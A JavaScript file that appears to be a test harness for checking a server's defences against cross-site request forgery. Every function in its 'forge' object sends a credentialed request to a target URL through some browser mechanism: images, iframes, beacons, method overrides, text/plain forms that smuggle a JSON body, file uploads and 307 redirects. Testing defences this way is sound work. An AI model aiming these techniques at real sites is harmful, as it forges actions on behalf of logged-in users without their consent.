// What a page of somebody else's can do with the address of a server that its visitor has logged in to.
// Each resolves when the browser has done with it, or after a second.
(() => {
  const done = (element, ...events) =>
    new Promise((resolve) => {
      for (const event of events) element.addEventListener(event, resolve);
      setTimeout(resolve, 1000);
    });
  const add = async (tag, properties, ...events) => {
    const element = Object.assign(document.createElement(tag), properties);
    const end = done(element, ...events);
    document.body.append(element);
    await end;
  };
  const form = (url, enctype, name, value, file) => {
    const element = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype });
    const input = Object.assign(document.createElement("input"), { name });
    if (file) {
      input.type = "file";
      const files = new DataTransfer();
      files.items.add(new File([Uint8Array.from(atob(file), (c) => c.charCodeAt(0))], "a.dcm"));
      element.append(input);
      input.files = files.files;
    } else {
      input.value = value;
      element.append(input);
    }
    return element;
  };
  const frame = async (sandbox, make) => {
    const element = document.createElement("iframe");
    if (sandbox) element.setAttribute("sandbox", sandbox);
    if (sandbox === "allow-scripts") element.srcdoc = `<script>${make}</` + "script>";
    document.body.append(element);
    if (!sandbox) {
      const content = make();
      element.contentDocument.body.append(content);
      content.submit();
    }
    await new Promise((resolve) => setTimeout(resolve, 700));
  };
  const bytes = (text) => Uint8Array.from(atob(text), (c) => c.charCodeAt(0));
  const faked = (url, method) => `${url}?_method=${method}`;
  const asked = (url, options) => fetch(url, { credentials: "include", ...options }).catch(() => {});
  window.forge = {
    link: (url, method) => {
      const a = Object.assign(document.createElement("a"), { href: faked(url, method) });
      document.body.append(a);
      a.click();
    },
    quietLink: (url, method) => {
      const a = Object.assign(document.createElement("a"), { href: faked(url, method), rel: "noreferrer" });
      document.body.append(a);
      a.click();
    },
    newWindow: (url, method) => void window.open(faked(url, method), "_blank", "noreferrer"),
    refresh: (url, method) => {
      document.head.append(
        Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${faked(url, method)}` }),
      );
    },
    redirect: (url, method) => void (location.href = `/redirect/302/${encodeURIComponent(faked(url, method))}`),
    picture: (url, method) => add("img", { src: faked(url, method) }, "load", "error"),
    quietPicture: (url, method) =>
      add("img", { referrerPolicy: "no-referrer", src: faked(url, method) }, "load", "error"),
    script: (url, method) => add("script", { src: faked(url, method) }, "load", "error"),
    style: (url, method) => add("link", { rel: "stylesheet", href: faked(url, method) }, "load", "error"),
    frame: (url, method) => add("iframe", { src: faked(url, method) }, "load"),
    object: (url, method) => add("object", { data: faked(url, method) }, "load", "error"),
    simpleGet: (url, method) =>
      asked(faked(url, method), {
        mode: "no-cors",
        referrerPolicy: "no-referrer",
        headers: { "Accept-Language": "*", Accept: "*/*" },
      }),
    fetch: (url, method, body) => asked(url, { method, body }),
    override: (url, method) => asked(url, { method: "POST", headers: { "X-HTTP-Method-Override": method } }),
    simplePost: (url, _, body) => asked(url, { method: "POST", mode: "no-cors", body }),
    simplePostOfBytes: (url, _, __, file) => asked(url, { method: "POST", mode: "no-cors", body: bytes(file) }),
    beacon: async (url, _, body) => {
      navigator.sendBeacon(url, body);
      await new Promise((resolve) => setTimeout(resolve, 500));
    },
    textForm: (url, _, body) => {
      const half = body.lastIndexOf('"}');
      const element = form(url, "text/plain", body.slice(0, half), body.slice(half + 1));
      document.body.append(element);
      element.submit();
    },
    fileForm: (url, _, __, file) => {
      const element = form(url, "multipart/form-data", "f", "", file);
      document.body.append(element);
      element.submit();
    },
    valueForm: (url, _, body) => {
      const element = form(url, "multipart/form-data", "f", body);
      document.body.append(element);
      element.submit();
    },
    framedForm: (url, _, body) => frame("", () => form(url, "multipart/form-data", "f", body)),
    framedFileForm: (url, _, __, file) => frame("", () => form(url, "multipart/form-data", "f", "", file)),
    sandboxed: (url, _, body) =>
      frame(
        "allow-scripts",
        `fetch(${JSON.stringify(url)}, {method: "POST", mode: "no-cors", credentials: "include", body: ${JSON.stringify(body)}})`,
      ),
    redirectedForm: (url, _, body) => {
      const element = form(`/redirect/307/${encodeURIComponent(url)}`, "text/plain", body.slice(0, -1), "");
      document.body.append(element);
      element.submit();
    },
  };
})();
